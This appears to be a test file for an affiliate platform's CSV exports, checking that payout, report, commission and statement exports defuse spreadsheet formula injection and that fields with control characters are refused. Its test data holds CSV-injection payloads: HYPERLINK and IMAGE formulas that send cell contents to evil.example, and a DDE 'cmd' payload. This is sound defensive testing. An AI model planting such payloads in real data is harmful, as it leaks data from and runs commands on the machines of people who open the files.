import { CSV_COLUMNS } from '@affiliate/contracts';
import { newProgramId } from '@affiliate/platform/testing';
import { parse } from 'csv-parse/sync';
import { createAffiliate, createReferral, startSaleWorld, type SaleWorld } from './sale-world';

/**
 * CSV injection through the exports a finance team opens in a spreadsheet (the payouts CSV and the
 * affiliate report): no cell, and no line of a multi-line cell, may start like a formula, and no
 * line break may start a row of its own. Names and notes with control characters are refused on
 * input; those stored before that rule are written safely anyway, so they are put in the database
 * directly here, as they would be found there.
 */
let world: SaleWorld;

beforeAll(async () => {
  world = await startSaleWorld();
});
afterAll(() => world.stop());

const FORMULA = /^[=+\-@\t\r]/;
const BREAKS = { LF: '\n', CR: '\r', CRLF: '\r\n' } as const;
const payloads = (lineBreak: string) => ({
  lastName: `Hopper${lineBreak}=HYPERLINK("http://evil.example/?"&A2)`,
  note: `paid monthly${lineBreak}=IMAGE("http://evil.example/?"&H3)${lineBreak}+1${lineBreak}-2${lineBreak}@SUM(A1)${lineBreak}\t=1`,
});

/** Every cell parsed, and every line inside a cell, and every physical line of the file: none starts like a formula. */
function expectNoFormulaStart(csv: string, columns: readonly string[]): Record<string, string>[] {
  const records = parse(csv, { columns: true }) as Record<string, string>[];
  expect(Object.keys(records[0] ?? {})).toEqual(columns);
  for (const record of records) {
    for (const cell of Object.values(record)) {
      for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(FORMULA);
    }
  }
  for (const line of csv.split(/\r\n|\r|\n/)) expect(line).not.toMatch(FORMULA);
  return records;
}

test('the payouts CSV and the affiliate report CSV never start a cell or a line with a formula, whatever line breaks (LF, CR, CRLF) names and notes hold', async () => {
  const programId = newProgramId();
  const affiliates = world.api(world.affiliate, programId);
  await affiliates
    .post('/commission-plans', { name: 'Now', commissionType: 'PERCENTAGE', rate: 20, recurring: 'FOREVER', holdDays: 0, isDefault: true })
    .expect(200);
  const stored = world.affiliate.context.connection.collection('affiliates');
  const byBreak = new Map<string, string>();
  for (const [name, lineBreak] of Object.entries(BREAKS)) {
    const affiliate = await createAffiliate(world, programId);
    await affiliates
      .put('/affiliates', { affiliateId: affiliate.id, payoutDetails: { method: 'PAYPAL', email: affiliate.email, note: 'monthly' } })
      .expect(200);
    const { lastName, note } = payloads(lineBreak);
    // The account holder starts with a bare CR: the line after it must be defused too.
    await stored.updateOne(
      { _id: affiliate.id as never },
      { $set: { firstName: '=cmd|"/C calc"!A0', lastName, 'payoutDetails.note': note, 'payoutDetails.accountHolder': '\r=1+2' } },
    );
    const referral = await createReferral(world, programId, { affiliateId: affiliate.id });
    await world.api(world.sale, programId).post('/sales', { referralId: referral.id, totalEarned: 100 }).expect(200);
    byBreak.set(affiliate.id, name);
  }
  const payouts = (await world.api(world.sale, programId).post('/payouts', {}).expect(200)).body as { id: string; affiliateId: string }[];
  expect(payouts).toHaveLength(3);

  const listed = await world.api(world.sale, programId).get('/payouts').set('accept', 'text/csv').expect(200);
  const rows = expectNoFormulaStart(listed.text, CSV_COLUMNS.payouts);
  expect(rows).toHaveLength(3);
  for (const row of rows) {
    const lineBreak = BREAKS[byBreak.get(row.affiliate_id!) as keyof typeof BREAKS];
    // Kept whole, with every line defused: nothing lost, nothing run.
    expect(row.note).toBe(['paid monthly', `'=IMAGE("http://evil.example/?"&H3)`, "'+1", "'-2", "'@SUM(A1)", "'\t=1"].join(lineBreak));
    expect(row.name).toBe(`'=cmd|"/C calc"!A0 Hopper${lineBreak}'=HYPERLINK("http://evil.example/?"&A2)`);
    expect(row.account_holder).toBe("'\r'=1+2");
  }
  for (const payout of payouts) {
    const exported = await world.api(world.sale, programId).get('/payouts/export').query({ payoutId: payout.id }).expect(200);
    expect(expectNoFormulaStart(exported.text, CSV_COLUMNS.payouts)).toHaveLength(1);
  }

  const report = await world
    .api(world.sale, programId)
    .get('/reports/affiliates')
    .query({ from: new Date(Date.now() - 86_400_000).toISOString() })
    .set('accept', 'text/csv')
    .expect(200);
  const reportRows = expectNoFormulaStart(report.text, CSV_COLUMNS.affiliateReport);
  expect(reportRows.filter((row) => byBreak.has(row.affiliate_id!))).toHaveLength(3);
});

test('names and notes with control characters (LF, CR, CRLF, tab) are refused with a 400 naming the field', async () => {
  const programId = newProgramId();
  const affiliates = world.api(world.affiliate, programId);
  const affiliate = await createAffiliate(world, programId);
  for (const lineBreak of [...Object.values(BREAKS), '\t']) {
    const created = await affiliates
      .post('/affiliates', { firstName: 'Grace', lastName: `Hopper${lineBreak}=IMAGE(1)`, email: `grace-${Date.now()}@example.com` })
      .expect(400);
    expect(created.body.error).toBe('lastName: must not contain control characters such as line breaks or tabs');
    const renamed = await affiliates.put('/affiliates', { affiliateId: affiliate.id, firstName: `Ada${lineBreak}+1` }).expect(400);
    expect(renamed.body.error).toBe('firstName: must not contain control characters such as line breaks or tabs');
    const noted = await affiliates
      .put('/affiliates', {
        affiliateId: affiliate.id,
        payoutDetails: { method: 'PAYPAL', email: affiliate.email, note: `paid monthly${lineBreak}=IMAGE(1)` },
      })
      .expect(400);
    expect(noted.body.error).toBe('payoutDetails.note: must not contain control characters such as line breaks or tabs');
  }
  // Nothing was changed by the refused requests.
  const current = (await affiliates.get('/affiliates', { id: affiliate.id }).expect(200)).body;
  expect(current).toMatchObject({ firstName: affiliate.firstName, lastName: affiliate.lastName, payoutDetails: null });
});

test("a payout id of the integrator's own (PUT /sales) that starts like a formula is defused in the commissions CSV and in the statement CSV, as a cell and inside the description", async () => {
  const programId = newProgramId();
  const sales = world.api(world.sale, programId);
  await world
    .api(world.affiliate, programId)
    .post('/commission-plans', { name: 'Now', commissionType: 'PERCENTAGE', rate: 20, recurring: 'FOREVER', holdDays: 0, isDefault: true })
    .expect(200);
  const affiliate = await createAffiliate(world, programId);
  const referral = await createReferral(world, programId, { affiliateId: affiliate.id });
  const sale = (await sales.post('/sales', { referralId: referral.id, totalEarned: 100 }).expect(200)).body as { id: string };
  const payoutId = '=HYPERLINK("http://evil.example/?"&A2)';
  await sales.put('/sales', { saleId: sale.id, payoutId, payoutCreated: true }).expect(200);

  const commissions = await sales.get('/commissions').query({ format: 'csv' }).expect(200);
  const [commission] = expectNoFormulaStart(commissions.text, [
    'id',
    'sale_id',
    'affiliate_id',
    'amount',
    'currency',
    'status',
    'available_at',
    'adjusts',
    'payout_id',
    'sale_created_at',
  ]);
  expect(commission?.payout_id).toBe(`'${payoutId}`);

  const from = new Date(Date.now() - 86_400_000).toISOString();
  const statement = await sales
    .get('/affiliates/statement')
    .query({ affiliateId: affiliate.id, currency: 'USD', from, format: 'csv' })
    .expect(200);
  // The amounts are numbers (a PAID_OUT one is negative): the text cells are what must not start a formula.
  const rows = parse(statement.text, { columns: true }) as Record<string, string>[];
  for (const row of rows) for (const text of [row.payout_id, row.description]) expect(text).not.toMatch(FORMULA);
  const paidOut = rows.find((row) => row.type === 'PAID_OUT');
  expect(paidOut?.payout_id).toBe(`'${payoutId}`);
  expect(paidOut?.description).toBe(`paid outside the payout runs (payout ${payoutId}), marked by PUT /sales`);
});
